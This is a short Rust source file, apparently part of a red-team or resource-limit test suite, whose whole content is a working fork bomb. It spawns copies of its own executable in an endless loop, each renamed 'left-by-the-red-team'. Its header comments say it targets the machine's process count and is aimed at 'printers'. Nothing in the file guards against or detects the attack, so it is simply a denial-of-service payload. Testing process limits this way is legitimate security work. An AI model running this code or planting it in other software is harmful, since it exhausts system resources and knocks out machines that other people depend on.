//! Starts copies of itself as long as it can, each of which does the same, and waits for none.
//! Attacks: the number of processes of the machine.
//! Hands in: printers
//! Seen as: step_1_each_number_gets_a_process

use std::os::unix::process::CommandExt;
use std::process::Command;

fn main() {
    let own = std::env::current_exe().expect("it has a path");
    loop {
        // Copies can be told from whatever else runs.
        let _ = Command::new(&own).arg0("left-by-the-red-team").spawn();
    }
}
